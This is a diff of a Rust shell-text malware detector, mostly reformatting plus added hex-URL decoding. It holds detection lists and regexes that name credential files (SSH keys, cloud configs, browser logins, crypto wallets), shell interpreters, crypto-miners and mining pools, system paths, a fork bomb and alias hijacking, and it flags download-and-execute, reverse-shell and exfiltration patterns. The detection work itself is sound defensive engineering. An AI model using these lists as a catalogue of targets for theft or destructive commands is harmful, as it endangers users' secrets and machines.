@@ -211,11 +211,36 @@ static CREDENTIAL_PATHS: LazyLock<Vec<(Regex, &'static str, bool)>> = LazyLock::
 /// is cheaper than twenty patterns.
 static CREDENTIAL_WORDS: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
     automaton(&[
-        ".ssh", "id_", ".aws", "gcloud", "application_default", ".azure", ".kube", ".docker",
-        "netrc", ".npmrc", ".pypirc", ".git-credentials", "gh/hosts", ".gnupg",
-        ".password-store", "Login Data", "key4.db", "logins.json", "cookies.sqlite", "Cookies",
-        "Keychains", ".keychain", "/etc/", "/environ", "wallet.dat", ".ethereum", "solana",
-        "nkbihf", "exodus", ".env",
+        ".ssh",
+        "id_",
+        ".aws",
+        "gcloud",
+        "application_default",
+        ".azure",
+        ".kube",
+        ".docker",
+        "netrc",
+        ".npmrc",
+        ".pypirc",
+        ".git-credentials",
+        "gh/hosts",
+        ".gnupg",
+        ".password-store",
+        "Login Data",
+        "key4.db",
+        "logins.json",
+        "cookies.sqlite",
+        "Cookies",
+        "Keychains",
+        ".keychain",
+        "/etc/",
+        "/environ",
+        "wallet.dat",
+        ".ethereum",
+        "solana",
+        "nkbihf",
+        "exodus",
+        ".env",
     ])
 });
 
@@ -245,7 +270,8 @@ fn credential(path: &str) -> Option<(&'static str, bool)> {
         || path.contains("wallet")
         || path.contains("nkbihf")
         || path.contains(".keychain");
-    if !path_like || path.ends_with(".pub") || path.len() > 512 || !CREDENTIAL_WORDS.is_match(path) {
+    if !path_like || path.ends_with(".pub") || path.len() > 512 || !CREDENTIAL_WORDS.is_match(path)
+    {
         return None;
     }
     CREDENTIAL_PATHS
@@ -284,13 +310,34 @@ pub(super) fn is_secret_name(name: &str) -> bool {
 
 /// `credential=$x`, `password=${p}`: a value the text itself calls a secret.
 static LABELLED_SECRET: LazyLock<Regex> = LazyLock::new(|| {
-    pattern(r"(?i)\b(credentials?|passwords?|passwd|secrets?|tokens?|api_?keys?|private_?key)\s*[=:]\s*\$")
+    pattern(
+        r"(?i)\b(credentials?|passwords?|passwd|secrets?|tokens?|api_?keys?|private_?key)\s*[=:]\s*\$",
+    )
 });
 
 /// Shells and interpreters that run what they read.
 const INTERPRETERS: &[&str] = &[
-    "sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "python", "python3", "python2", "node",
-    "perl", "ruby", "php", "source", ".", "iex", "pwsh", "powershell", "deno", "bun",
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "fish",
+    "ash",
+    "python",
+    "python3",
+    "python2",
+    "node",
+    "perl",
+    "ruby",
+    "php",
+    "source",
+    ".",
+    "iex",
+    "pwsh",
+    "powershell",
+    "deno",
+    "bun",
 ];
 
 fn is_interpreter(name: &str) -> bool {
@@ -386,12 +433,26 @@ fn all_installers(words: &[&str]) -> bool {
 
 /// Mining software and pools.
 const MINERS: &[&str] = &[
-    "xmrig", "minerd", "cpuminer", "xmr-stak", "ethminer", "t-rex", "nbminer", "lolminer",
-    "phoenixminer", "cgminer", "bfgminer", "nanominer", "gminer", "srbminer",
+    "xmrig",
+    "minerd",
+    "cpuminer",
+    "xmr-stak",
+    "ethminer",
+    "t-rex",
+    "nbminer",
+    "lolminer",
+    "phoenixminer",
+    "cgminer",
+    "bfgminer",
+    "nanominer",
+    "gminer",
+    "srbminer",
 ];
 
 static MINING_TEXT: LazyLock<Regex> = LazyLock::new(|| {
-    pattern(r"(?i)stratum\d?\+(?:tcp|ssl|tls)://|\bcoinhive\b|\bcryptonight\b|--donate-level|\bxmrig\b|\bnicehash\b|monero(?:ocean|hash)|\bminexmr\b|supportxmr")
+    pattern(
+        r"(?i)stratum\d?\+(?:tcp|ssl|tls)://|\bcoinhive\b|\bcryptonight\b|--donate-level|\bxmrig\b|\bnicehash\b|monero(?:ocean|hash)|\bminexmr\b|supportxmr",
+    )
 });
 
 /// Roots whose recursive removal destroys a machine or a home.
@@ -407,10 +468,31 @@ fn is_root_target(word: &str) -> bool {
 /// System folders: removing them breaks the machine, or hides tracks (`/var/log`).
 fn is_system_path(word: &str) -> bool {
     const ROOTS: &[&str] = &[
-        "/etc", "/usr", "/var", "/bin", "/sbin", "/lib", "/lib64", "/boot", "/opt", "/System",
-        "/Library", "/Applications", "/root", "/srv", "/sys", "/dev", "/proc",
+        "/etc",
+        "/usr",
+        "/var",
+        "/bin",
+        "/sbin",
+        "/lib",
+        "/lib64",
+        "/boot",
+        "/opt",
+        "/System",
+        "/Library",
+        "/Applications",
+        "/root",
+        "/srv",
+        "/sys",
+        "/dev",
+        "/proc",
     ];
-    const EXCEPT: &[&str] = &["/var/tmp", "/var/folders", "/dev/null", "/dev/shm", "/opt/homebrew"];
+    const EXCEPT: &[&str] = &[
+        "/var/tmp",
+        "/var/folders",
+        "/dev/null",
+        "/dev/shm",
+        "/opt/homebrew",
+    ];
     ROOTS.iter().any(|root| {
         word == *root
             || word
@@ -428,9 +510,25 @@ fn is_outside(path: &str) -> bool {
         && !path.starts_with("$TMPDIR")
 }
 
-/// The URL hidden in a base64 string, when it decodes to one.
+/// The URL hidden in a base64 or hex string, when it decodes to one.
 fn encoded_url(text: &str) -> Option<String> {
     let text = text.trim();
+    if text.len() >= 16
+        && text.len() <= 4096
+        && text.starts_with("68747470")
+        && text.len().is_multiple_of(2)
+    {
+        let decoded: Option<Vec<u8>> = (0..text.len())
+            .step_by(2)
+            .map(|index| {
+                text.get(index..index + 2)
+                    .and_then(|pair| u8::from_str_radix(pair, 16).ok())
+            })
+            .collect();
+        let decoded = String::from_utf8(decoded?).ok()?;
+        return (decoded.starts_with("http://") || decoded.starts_with("https://"))
+            .then(|| decoded.chars().take(120).collect());
+    }
     if text.len() < 16
         || text.len() > 4096
         || !text.starts_with("aHR0")
@@ -519,7 +617,9 @@ const NETWORK_COMMANDS: &[&str] = &[
 /// Decoders whose output piped into a shell hides what runs.
 fn is_decoder(command: &Command) -> bool {
     match command.name() {
-        "base64" | "base32" | "basenc" => command.has_flag('d', &["decode"]) || command.has_flag('D', &[]),
+        "base64" | "base32" | "basenc" => {
+            command.has_flag('d', &["decode"]) || command.has_flag('D', &[])
+        }
         "xxd" => command.has_flag('r', &["revert"]),
         "openssl" => command
             .args()
@@ -562,7 +662,11 @@ fn download_target(command: &Command) -> Option<String> {
                 args.get(index + 1).map(|next| next.text.clone())
             } else if let Some(value) = text.strip_prefix(&format!("{long}=")) {
                 Some(value.to_owned())
-            } else if text.starts_with('-') && !text.starts_with("--") && text.ends_with(&short[1..]) && text.len() > 2 {
+            } else if text.starts_with('-')
+                && !text.starts_with("--")
+                && text.ends_with(&short[1..])
+                && text.len() > 2
+            {
                 args.get(index + 1).map(|next| next.text.clone())
             } else {
                 None
@@ -608,10 +712,16 @@ fn source_of(command: &Command, scope: &ShellScope) -> Option<Origin> {
                 .map(|name| Origin::Secret((*name).to_owned()))
         }
         "cat" | "head" | "tail" | "base64" | "xxd" | "od" | "strings" | "tar" | "zip" | "gzip"
-        | "7z" | "sqlite3" | "less" | "more" | "gpg" | "openssl" | "jq" | "cp" | "scp" | "rsync"
-        | "mv" | "dd" | "python" | "python3" | "node" => args
+        | "7z" | "sqlite3" | "less" | "more" | "gpg" | "openssl" | "jq" | "cp" | "scp"
+        | "rsync" | "mv" | "dd" | "python" | "python3" | "node" => args
             .iter()
-            .chain(command.redirects.iter().filter(|r| r.op == "<").map(|r| &r.target))
+            .chain(
+                command
+                    .redirects
+                    .iter()
+                    .filter(|r| r.op == "<")
+                    .map(|r| &r.target),
+            )
             .filter_map(|word| credential(&word.text))
             .map(|(label, _)| Origin::Credential(label))
             .next(),
@@ -633,7 +743,11 @@ fn source_of(command: &Command, scope: &ShellScope) -> Option<Origin> {
                     || word.text == "dump-keychain"
             })
             .then_some(Origin::Credential("the macOS keychain")),
-        "secret-tool" if args.iter().any(|w| matches!(w.text.as_str(), "lookup" | "search")) => {
+        "secret-tool"
+            if args
+                .iter()
+                .any(|w| matches!(w.text.as_str(), "lookup" | "search")) =>
+        {
             Some(Origin::Credential("the desktop keyring"))
         }
         _ => None,
@@ -666,18 +780,27 @@ fn substitution_origins(
             continue;
         };
         for pipeline in shell::parse(inner, start) {
-            let downloads = pipeline.iter().any(|c| NETWORK_COMMANDS.contains(&c.name()));
+            let downloads = pipeline
+                .iter()
+                .any(|c| NETWORK_COMMANDS.contains(&c.name()));
             let decodes = pipeline.iter().any(is_decoder);
             let mut origin: Option<Origin> = None;
             for inner_command in &pipeline {
                 origin = narrowed(origin, inner_command);
                 if let Some(source) = source_of(inner_command, scope) {
                     origin = Some(source);
-                } else if inner_command.name().chars().all(|c| c.is_ascii_uppercase() || c == '_')
+                } else if inner_command
+                    .name()
+                    .chars()
+                    .all(|c| c.is_ascii_uppercase() || c == '_')
                     && is_secret_name(inner_command.name())
                 {
                     // `$(TOKEN)`: meant as `$TOKEN`.
-                    found.push((Origin::Secret(inner_command.name().to_owned()), false, false));
+                    found.push((
+                        Origin::Secret(inner_command.name().to_owned()),
+                        false,
+                        false,
+                    ));
                 }
             }
             if let Some(origin) = origin {
@@ -685,7 +808,11 @@ fn substitution_origins(
             }
             if downloads || decodes {
                 found.push((
-                    if downloads { Origin::Download } else { Origin::Decoded },
+                    if downloads {
+                        Origin::Download
+                    } else {
+                        Origin::Decoded
+                    },
                     downloads,
                     decodes,
                 ));
@@ -705,14 +832,20 @@ fn in_comment(text: &str, offset: usize) -> bool {
 }
 
 fn shell_text(text: &str, base: usize, scope: &mut ShellScope, out: &mut Examined) {
-    if let Some(found) = FORK_BOMB.find(text).filter(|found| !in_comment(text, found.start())) {
+    if let Some(found) = FORK_BOMB
+        .find(text)
+        .filter(|found| !in_comment(text, found.start()))
+    {
         out.add(
             Behaviour::Destructive,
             place(scope.anchor, base + found.start(), found.len()),
             "a fork bomb: exhausts the machine's processes",
         );
     }
-    if let Some(found) = ALIAS_HIJACK.find(text).filter(|found| !in_comment(text, found.start())) {
+    if let Some(found) = ALIAS_HIJACK
+        .find(text)
+        .filter(|found| !in_comment(text, found.start()))
+    {
         out.add(
             Behaviour::Persistence,
             place(scope.anchor, base + found.start(), found.len()),
@@ -727,7 +860,7 @@ fn shell_text(text: &str, base: usize, scope: &mut ShellScope, out: &mut Examine
 static FORK_BOMB: LazyLock<Regex> =
     LazyLock::new(|| pattern(r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"));
 static ALIAS_HIJACK: LazyLock<Regex> =
-    LazyLock::new(|| pattern(r"(?m)^\s*alias\s+(?:sudo|su|ssh|git|passwd)=")); 
+    LazyLock::new(|| pattern(r"(?m)^\s*alias\s+(?:sudo|su|ssh|git|passwd)="));
 
 fn shell_pipeline(
     pipeline: &Pipeline,
@@ -752,15 +885,19 @@ fn shell_pipeline(
             out.programs.push(command.argv()[0].text.clone());
         }
         // Assignments carry what their substitutions print.
-        for word in command.words.iter().take_while(|w| shell::is_assignment(&w.text)) {
+        for word in command
+            .words
+            .iter()
+            .take_while(|w| shell::is_assignment(&w.text))
+        {
             if let Some((variable, _)) = word.text.split_once('=') {
                 if let Some((origin, _, _)) = substitution_origins(command, word, text, base, scope)
                     .into_iter()
                     .next()
                 {
                     scope.taint.insert(variable.to_owned(), origin);
-                } else if let Some(origin) = shell::variables(&word.text)
-                    .find_map(|name| scope.taint.get(name).cloned())
+                } else if let Some(origin) =
+                    shell::variables(&word.text).find_map(|name| scope.taint.get(name).cloned())
                 {
                     scope.taint.insert(variable.to_owned(), origin);
                 }
@@ -776,7 +913,14 @@ fn shell_pipeline(
             out.add(
                 Behaviour::NetworkEgress,
                 at(command),
-                format!("{name} talks to {}", if hosts_here.is_empty() { "the network".to_owned() } else { hosts_here.join(", ") }),
+                format!(
+                    "{name} talks to {}",
+                    if hosts_here.is_empty() {
+                        "the network".to_owned()
+                    } else {
+                        hosts_here.join(", ")
+                    }
+                ),
             );
         }
 
@@ -793,7 +937,11 @@ fn shell_pipeline(
                     .any(|(_, store)| store)
                     || matches!(name, "security" | "secret-tool");
                 if store {
-                    out.add(Behaviour::CredentialRead, at(command), format!("reads {label}"));
+                    out.add(
+                        Behaviour::CredentialRead,
+                        at(command),
+                        format!("reads {label}"),
+                    );
                 }
             }
             if index + 1 < pipeline.len() {
@@ -803,11 +951,14 @@ fn shell_pipeline(
             .redirects
             .iter()
             .find(|r| r.op == "<" && credential(&r.target.text).is_some_and(|c| c.1))
+            && let Some((label, _)) = credential(&redirect.target.text)
         {
-            if let Some((label, _)) = credential(&redirect.target.text) {
-                out.add(Behaviour::CredentialRead, at(command), format!("reads {label}"));
-                flowing = Some(Origin::Credential(label));
-            }
+            out.add(
+                Behaviour::CredentialRead,
+                at(command),
+                format!("reads {label}"),
+            );
+            flowing = Some(Origin::Credential(label));
         }
 
         // Secrets sent: piped in, in a data argument, in a URL, in a DNS name.
@@ -817,10 +968,10 @@ fn shell_pipeline(
                     word.contains("@-") || *word == "-" || word.ends_with("@/dev/stdin")
                 })
                 || command.words.iter().any(|w| w.text == "xargs");
-            if let (Some(origin), true) = (&flowing, reads_stdin) {
-                if let Some((behaviour, message)) = leak(origin, &hosts_here) {
-                    out.add(behaviour, at(command), message);
-                }
+            if let (Some(origin), true) = (&flowing, reads_stdin)
+                && let Some((behaviour, message)) = leak(origin, &hosts_here)
+            {
+                out.add(behaviour, at(command), message);
             }
             let mut skip_next = false;
             for (position, word) in args.iter().enumerate() {
@@ -829,11 +980,28 @@ fn shell_pipeline(
                     continue;
                 }
                 let text_of = word.text.as_str();
-                if matches!(text_of, "-H" | "--header" | "-u" | "--user" | "--oauth2-bearer" | "-A" | "--user-agent" | "-b" | "--cookie" | "-E" | "--cert" | "--key" | "-i") {
+                if matches!(
+                    text_of,
+                    "-H" | "--header"
+                        | "-u"
+                        | "--user"
+                        | "--oauth2-bearer"
+                        | "-A"
+                        | "--user-agent"
+                        | "-b"
+                        | "--cookie"
+                        | "-E"
+                        | "--cert"
+                        | "--key"
+                        | "-i"
+                ) {
                     skip_next = true;
                     continue;
                 }
-                if text_of.starts_with("--header=") || text_of.starts_with("-H") && text_of.len() > 2 || text_of.starts_with("Authorization:") {
+                if text_of.starts_with("--header=")
+                    || text_of.starts_with("-H") && text_of.len() > 2
+                    || text_of.starts_with("Authorization:")
+                {
                     continue;
                 }
                 let _ = position;
@@ -843,26 +1011,34 @@ fn shell_pipeline(
                     }
                 }
                 for variable in shell::variables(text_of) {
-                    if let Some(origin) = origin_of_variable(variable, scope) {
-                        if let Some((behaviour, message)) = leak(&origin, &hosts_here) {
-                            out.add(behaviour, at(command), message);
-                        }
+                    if let Some(origin) = origin_of_variable(variable, scope)
+                        && let Some((behaviour, message)) = leak(&origin, &hosts_here)
+                    {
+                        out.add(behaviour, at(command), message);
                     }
                 }
-                if let Some(path) = text_of.split('@').nth(1).filter(|_| text_of.contains('@') && !text_of.contains("://")) {
-                    if let Some((label, _)) = credential(path) {
-                        let origin = Origin::Credential(label);
-                        if let Some((behaviour, message)) = leak(&origin, &hosts_here) {
-                            out.add(behaviour, at(command), message);
-                        }
+                if let Some(path) = text_of
+                    .split('@')
+                    .nth(1)
+                    .filter(|_| text_of.contains('@') && !text_of.contains("://"))
+                    && let Some((label, _)) = credential(path)
+                {
+                    let origin = Origin::Credential(label);
+                    if let Some((behaviour, message)) = leak(&origin, &hosts_here) {
+                        out.add(behaviour, at(command), message);
                     }
                 }
-                if matches!(name, "scp" | "rsync") || (name == "curl" && matches!(args.get(position.wrapping_sub(1)).map(|w| w.text.as_str()), Some("-T" | "--upload-file"))) {
-                    if let Some((label, _)) = credential(text_of) {
-                        if let Some((behaviour, message)) = leak(&Origin::Credential(label), &hosts_here) {
-                            out.add(behaviour, at(command), message);
-                        }
-                    }
+                if (matches!(name, "scp" | "rsync")
+                    || (name == "curl"
+                        && matches!(
+                            args.get(position.wrapping_sub(1)).map(|w| w.text.as_str()),
+                            Some("-T" | "--upload-file")
+                        )))
+                    && let Some((label, _)) = credential(text_of)
+                    && let Some((behaviour, message)) =
+                        leak(&Origin::Credential(label), &hosts_here)
+                {
+                    out.add(behaviour, at(command), message);
                 }
             }
         }
@@ -875,7 +1051,11 @@ fn shell_pipeline(
             listening = true;
         }
         if listening && index > 0 && runs_stdin(command) {
-            out.add(Behaviour::ReverseShell, at(command), format!("runs what arrives over the network with {name}"));
+            out.add(
+                Behaviour::ReverseShell,
+                at(command),
+                format!("runs what arrives over the network with {name}"),
+            );
         }
         if is_decoder(command) {
             decoding = true;
@@ -891,7 +1071,10 @@ fn shell_pipeline(
                     out.add(
                         Behaviour::RemoteInstaller,
                         at(&pipeline[from]),
-                        format!("pipes a vendor's installer into {name}: {}", hosts_of(&download_words)),
+                        format!(
+                            "pipes a vendor's installer into {name}: {}",
+                            hosts_of(&download_words)
+                        ),
                     );
                 } else {
                     let behaviour = if all_installer_like(&download_words) {
@@ -902,7 +1085,10 @@ fn shell_pipeline(
                     out.add(
                         behaviour,
                         at(&pipeline[from]),
-                        format!("pipes a download into {name}{}", to_hosts(&hosts::hosts(&download_words.join(" ")))),
+                        format!(
+                            "pipes a download into {name}{}",
+                            to_hosts(&hosts::hosts(&download_words.join(" ")))
+                        ),
                     );
                 }
             } else if decoding {
@@ -914,34 +1100,82 @@ fn shell_pipeline(
             }
         }
         // `bash -c "$(curl …)"`, `eval "$(echo … | base64 -d)"`, `source <(curl …)`.
-        if is_interpreter(name) || name == "eval" || command.words.first().is_some_and(|w| w.text == "eval") {
+        if is_interpreter(name)
+            || name == "eval"
+            || command.words.first().is_some_and(|w| w.text == "eval")
+        {
             for word in args {
-                for (origin, downloads, decodes) in substitution_origins(command, word, text, base, scope) {
+                for (origin, downloads, decodes) in
+                    substitution_origins(command, word, text, base, scope)
+                {
                     let inner_words: Vec<&str> = word.text.split_whitespace().collect();
                     if downloads && matches!(origin, Origin::Download) {
                         if all_installers(&inner_words) {
-                            out.add(Behaviour::RemoteInstaller, at(command), format!("runs a vendor's installer with {}: {}", if name.is_empty() { "eval" } else { name }, hosts_of(&inner_words)));
+                            out.add(
+                                Behaviour::RemoteInstaller,
+                                at(command),
+                                format!(
+                                    "runs a vendor's installer with {}: {}",
+                                    if name.is_empty() { "eval" } else { name },
+                                    hosts_of(&inner_words)
+                                ),
+                            );
                         } else {
-                            let behaviour = if all_installer_like(&inner_words) { Behaviour::InstallerPipe } else { Behaviour::DownloadExec };
-                            out.add(behaviour, at(command), format!("runs downloaded code with {}{}", if name.is_empty() { "eval" } else { name }, to_hosts(&hosts::hosts(&word.text))));
+                            let behaviour = if all_installer_like(&inner_words) {
+                                Behaviour::InstallerPipe
+                            } else {
+                                Behaviour::DownloadExec
+                            };
+                            out.add(
+                                behaviour,
+                                at(command),
+                                format!(
+                                    "runs downloaded code with {}{}",
+                                    if name.is_empty() { "eval" } else { name },
+                                    to_hosts(&hosts::hosts(&word.text))
+                                ),
+                            );
                         }
                     } else if decodes && matches!(origin, Origin::Decoded) {
-                        out.add(Behaviour::ObfuscatedExec, at(command), format!("runs decoded text with {}", if name.is_empty() { "eval" } else { name }));
+                        out.add(
+                            Behaviour::ObfuscatedExec,
+                            at(command),
+                            format!(
+                                "runs decoded text with {}",
+                                if name.is_empty() { "eval" } else { name }
+                            ),
+                        );
                     }
                 }
-                if let Some(variable) = shell::variables(&word.text).find(|v| matches!(scope.taint.get(*v), Some(Origin::Download | Origin::Decoded))) {
-                    out.add(Behaviour::DownloadExec, at(command), format!("runs the downloaded or decoded ${variable}"));
+                if let Some(variable) = shell::variables(&word.text).find(|v| {
+                    matches!(
+                        scope.taint.get(*v),
+                        Some(Origin::Download | Origin::Decoded)
+                    )
+                }) {
+                    out.add(
+                        Behaviour::DownloadExec,
+                        at(command),
+                        format!("runs the downloaded or decoded ${variable}"),
+                    );
                 }
             }
         }
         // A file downloaded earlier, then run.
         if let Some(target) = download_target(command) {
-            let url = words.iter().find(|word| word.contains("://")).map_or(String::new(), |url| (*url).to_owned());
+            let url = words
+                .iter()
+                .find(|word| word.contains("://"))
+                .map_or(String::new(), |url| (*url).to_owned());
             scope.downloaded.push((target, url));
         }
         let downloaded_url = |word: &str| {
             let word = shell::program_name(word);
-            scope.downloaded.iter().find(|(file, _)| file == word).map(|(_, url)| url.clone())
+            scope
+                .downloaded
+                .iter()
+                .find(|(file, _)| file == word)
+                .map(|(_, url)| url.clone())
         };
         let run_url = command
             .argv()
@@ -949,11 +1183,18 @@ fn shell_pipeline(
             .and_then(|w| downloaded_url(&w.text))
             .or_else(|| {
                 is_interpreter(name)
-                    .then(|| args.iter().find(|w| !w.text.starts_with('-')).and_then(|w| downloaded_url(&w.text)))
+                    .then(|| {
+                        args.iter()
+                            .find(|w| !w.text.starts_with('-'))
+                            .and_then(|w| downloaded_url(&w.text))
+                    })
                     .flatten()
             });
         if let Some(url) = run_url {
-            let file = command.argv().first().map_or(String::new(), |w| w.text.clone());
+            let file = command
+                .argv()
+                .first()
+                .map_or(String::new(), |w| w.text.clone());
             let behaviour = if all_installers(&[url.as_str()]) {
                 Behaviour::RemoteInstaller
             } else if all_installer_like(&[url.as_str()]) {
@@ -961,25 +1202,47 @@ fn shell_pipeline(
             } else {
                 Behaviour::DownloadExec
             };
-            out.add(behaviour, at(command), format!("runs a file it downloaded ({}){}", shell::program_name(&file), to_hosts(&hosts::hosts(&url))));
+            out.add(
+                behaviour,
+                at(command),
+                format!(
+                    "runs a file it downloaded ({}){}",
+                    shell::program_name(&file),
+                    to_hosts(&hosts::hosts(&url))
+                ),
+            );
         }
 
         // Code handed to another interpreter.
         shell_nested(command, text, base, scope, out);
 
         // Base64 that hides a URL.
-        for word in args.iter().chain(command.redirects.iter().filter(|r| r.op == "<<<").map(|r| &r.target)) {
+        for word in args.iter().chain(
+            command
+                .redirects
+                .iter()
+                .filter(|r| r.op == "<<<")
+                .map(|r| &r.target),
+        ) {
             if let Some(url) = encoded_url(&word.text) {
-                out.add(Behaviour::EncodedUrl, at(command), format!("hides a URL in base64: {url}"));
+                out.add(
+                    Behaviour::EncodedUrl,
+                    at(command),
+                    format!("hides a URL in base64: {url}"),
+                );
             }
         }
 
         shell_command_rules(command, &words, index > 0, scope, out);
     }
-    if pipe_shell(pipeline) {
-        if let Some(first) = pipeline.first() {
-            out.add(Behaviour::ReverseShell, at(first), "pipes an interactive shell through a network connection");
-        }
+    if pipe_shell(pipeline)
+        && let Some(first) = pipeline.first()
+    {
+        out.add(
+            Behaviour::ReverseShell,
+            at(first),
+            "pipes an interactive shell through a network connection",
+        );
     }
 }
 
@@ -1023,13 +1286,18 @@ fn runs_stdin(command: &Command) -> bool {
             .is_some_and(|w| matches!(w.text.as_str(), "/dev/stdin" | "-"));
     }
     let args = command.args();
-    if args.iter().any(|w| matches!(w.text.as_str(), "-" | "/dev/stdin" | "-s")) {
+    if args
+        .iter()
+        .any(|w| matches!(w.text.as_str(), "-" | "/dev/stdin" | "-s"))
+    {
         return true;
     }
     // Options that take the code or a module from the command line.
     let code_elsewhere = args.iter().any(|w| {
-        matches!(w.text.as_str(), "-c" | "-m" | "-e" | "--eval" | "-p" | "--print" | "-r")
-            || w.text.starts_with('-') && !w.text.starts_with("--") && w.text.ends_with('c')
+        matches!(
+            w.text.as_str(),
+            "-c" | "-m" | "-e" | "--eval" | "-p" | "--print" | "-r"
+        ) || w.text.starts_with('-') && !w.text.starts_with("--") && w.text.ends_with('c')
     });
     let operand = args
         .iter()
@@ -1045,12 +1313,29 @@ fn hosts_of(words: &[&str]) -> String {
 /// name, that name.
 fn command_hosts(command: &Command) -> Vec<String> {
     let mut found = Vec::new();
-    for word in command.args().iter().filter(|word| word.text.contains("://")) {
+    for word in command
+        .args()
+        .iter()
+        .filter(|word| word.text.contains("://"))
+    {
         for host in hosts::hosts(&word.text) {
             hosts::push_host(&mut found, &host);
         }
     }
-    if matches!(command.name(), "nc" | "ncat" | "netcat" | "telnet" | "ssh" | "dig" | "nslookup" | "host" | "ftp" | "sftp" | "scp" | "rsync") {
+    if matches!(
+        command.name(),
+        "nc" | "ncat"
+            | "netcat"
+            | "telnet"
+            | "ssh"
+            | "dig"
+            | "nslookup"
+            | "host"
+            | "ftp"
+            | "sftp"
+            | "scp"
+            | "rsync"
+    ) {
         for word in command.args() {
             let text = word.text.as_str();
             let text = text.rsplit('@').next().unwrap_or(text);
@@ -1064,7 +1349,13 @@ fn command_hosts(command: &Command) -> Vec<String> {
 }
 
 /// `bash -c CODE`, `python3 -c CODE`, `node -e CODE`, and heredocs fed to an interpreter.
-fn shell_nested(command: &Command, text: &str, base: usize, scope: &ShellScope, out: &mut Examined) {
+fn shell_nested(
+    command: &Command,
+    text: &str,
+    base: usize,
+    scope: &ShellScope,
+    out: &mut Examined,
+) {
     let name = command.name();
     let lang = match name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
         "sh" | "bash" | "zsh" | "dash" | "ksh" | "su" => Some(Lang::Shell),
@@ -1078,30 +1369,64 @@ fn shell_nested(command: &Command, text: &str, base: usize, scope: &ShellScope, 
     };
     if let Some(lang) = lang {
         let args = command.args();
-        let flag = if lang == Lang::JavaScript { &["-e", "--eval", "-p", "--print"][..] } else { &["-c"][..] };
-        if let Some(position) = args.iter().position(|word| flag.contains(&word.text.as_str()) || word.text.starts_with('-') && !word.text.starts_with("--") && word.text.ends_with('c') && lang != Lang::JavaScript) {
-            if let Some(code_word) = args.get(position + 1) {
-                examine_into(&code_word.text, lang, code_word.start, anchor, out, scope.depth + 1);
-            }
+        let flag = if lang == Lang::JavaScript {
+            &["-e", "--eval", "-p", "--print"][..]
+        } else {
+            &["-c"][..]
+        };
+        if let Some(position) = args.iter().position(|word| {
+            flag.contains(&word.text.as_str())
+                || word.text.starts_with('-')
+                    && !word.text.starts_with("--")
+                    && word.text.ends_with('c')
+                    && lang != Lang::JavaScript
+        }) && let Some(code_word) = args.get(position + 1)
+        {
+            examine_into(
+                &code_word.text,
+                lang,
+                code_word.start,
+                anchor,
+                out,
+                scope.depth + 1,
+            );
         }
-        if let Some((start, end)) = command.heredoc {
-            if let Some(body) = text.get(start - base..end - base) {
-                examine_into(body, lang, start, scope.anchor, out, scope.depth + 1);
-            }
+        if let Some((start, end)) = command.heredoc
+            && let Some(body) = text.get(start - base..end - base)
+        {
+            examine_into(body, lang, start, scope.anchor, out, scope.depth + 1);
         }
     }
     if name == "eval" || command.words.first().is_some_and(|w| w.text == "eval") {
-        let joined: Vec<&str> = command.words.iter().skip(1).map(|w| w.text.as_str()).collect();
+        let joined: Vec<&str> = command
+            .words
+            .iter()
+            .skip(1)
+            .map(|w| w.text.as_str())
+            .collect();
         let joined = joined.join(" ");
         if !joined.trim_start().starts_with("$(") && !joined.trim_start().starts_with('`') {
-            examine_into(&joined, Lang::Shell, command.start, anchor, out, scope.depth + 1);
+            examine_into(
+                &joined,
+                Lang::Shell,
+                command.start,
+                anchor,
+                out,
+                scope.depth + 1,
+            );
         }
     }
 }
 
 /// The rules about one command's own effect: installs, persistence, destruction,
 /// privileges, mining, reverse shells.
-fn shell_command_rules(command: &Command, words: &[&str], piped: bool, scope: &ShellScope, out: &mut Examined) {
+fn shell_command_rules(
+    command: &Command,
+    words: &[&str],
+    piped: bool,
+    scope: &ShellScope,
+    out: &mut Examined,
+) {
     let name = command.name();
     let args = command.args();
     let at = {
@@ -1116,27 +1441,91 @@ fn shell_command_rules(command: &Command, words: &[&str], piped: bool, scope: &S
 
     // Packages installed at run time.
     let installs = match name {
-        "pip" | "pip3" | "pipx" | "gem" | "cargo" | "go" | "conda" | "mamba" | "micromamba" => operands.first() == Some(&"install"),
-        "uv" => operands.starts_with(&["pip", "install"]) || operands.first() == Some(&"add") || operands.starts_with(&["tool", "install"]),
-        "npm" | "pnpm" | "yarn" | "bun" => matches!(operands.first(), Some(&("install" | "i" | "add" | "ci"))),
-        "apt-get" | "apt" | "yum" | "dnf" | "brew" | "zypper" | "pacman" | "apk" | "port" | "choco" | "winget" => matches!(operands.first(), Some(&("install" | "add" | "-S"))) || words.contains(&"-S"),
-        name if name.starts_with("python") => operands.starts_with(&["pip", "install"]) && words.contains(&"-m"),
+        "pip" | "pip3" | "pipx" | "gem" | "cargo" | "go" | "conda" | "mamba" | "micromamba" => {
+            operands.first() == Some(&"install")
+        }
+        "uv" => {
+            operands.starts_with(&["pip", "install"])
+                || operands.first() == Some(&"add")
+                || operands.starts_with(&["tool", "install"])
+        }
+        "npm" | "pnpm" | "yarn" | "bun" => {
+            matches!(operands.first(), Some(&("install" | "i" | "add" | "ci")))
+        }
+        "apt-get" | "apt" | "yum" | "dnf" | "brew" | "zypper" | "pacman" | "apk" | "port"
+        | "choco" | "winget" => {
+            matches!(operands.first(), Some(&("install" | "add" | "-S"))) || words.contains(&"-S")
+        }
+        name if name.starts_with("python") => {
+            operands.starts_with(&["pip", "install"]) && words.contains(&"-m")
+        }
         _ => false,
     };
     if installs {
         let from_url = words.iter().enumerate().find(|(index, word)| {
             let lower = word.to_ascii_lowercase();
-            let index_url = index.checked_sub(1).and_then(|previous| words.get(previous)).is_some_and(|previous| {
-                matches!(*previous, "--index-url" | "-i" | "--extra-index-url" | "--registry" | "--find-links" | "-f")
-            }) || lower.starts_with("--index-url=") || lower.starts_with("--extra-index-url=") || lower.starts_with("--registry=");
-            let trusted_index = ["pypi.org", "pythonhosted.org", "download.pytorch.org", "pypi.nvidia.com", "data.pyg.org", "registry.npmjs.org", "anaconda.org", "conda.anaconda.org"].iter().any(|host| lower.contains(host));
-            (lower.starts_with("git+") || lower.starts_with("git://") || lower.starts_with("github:") || (lower.contains("://") && !index_url) || index_url && lower.contains("://")) && !trusted_index
+            let index_url = index
+                .checked_sub(1)
+                .and_then(|previous| words.get(previous))
+                .is_some_and(|previous| {
